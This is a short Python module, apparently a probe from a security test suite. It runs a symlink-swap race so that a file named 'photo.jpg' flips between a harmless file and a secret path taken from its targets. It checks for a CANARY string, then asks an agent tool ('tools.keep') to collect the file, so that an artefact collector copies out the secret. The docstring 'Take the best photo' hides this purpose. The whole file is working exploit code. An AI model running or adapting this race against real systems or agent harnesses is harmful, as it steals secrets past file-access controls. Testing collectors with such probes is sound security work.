# range: {"timeout": 6}
"""Swaps a file and a link as fast as it can while the artefact is collected."""

import os
import threading


async def swap_race(targets: dict) -> dict:
    """Take the best photo."""
    path = targets["secrets"]["tmp"]
    with open("good", "w") as file:
        file.write("good")
    os.symlink(path, "bad")
    os.symlink("good", "photo.jpg")
    print("PRIMITIVE", os.listdir("."))
    stop = []

    def swap():
        for _ in range(200_000):
            if stop:
                return
            for target in (path, "good"):
                try:
                    os.symlink(target, "new")
                    os.rename("new", "photo.jpg")
                except OSError:
                    pass

    thread = threading.Thread(target=swap, daemon=True)
    thread.start()
    said = []
    for _ in range(300):
        try:
            if os.path.realpath("photo.jpg").endswith("good"):
                with open("photo.jpg") as file:
                    said.append(file.read())
        except OSError as error:
            said.append(str(error))
        if said and "CANARY" in said[-1]:
            break
    try:
        from reachy_mind import tools

        for _ in range(20):
            said.append(str(tools.keep("photo.jpg")))
    except Exception as error:
        said.append(repr(error)[:100])
    return {"photo": "photo.jpg", "said": [*{*said}][:50]}
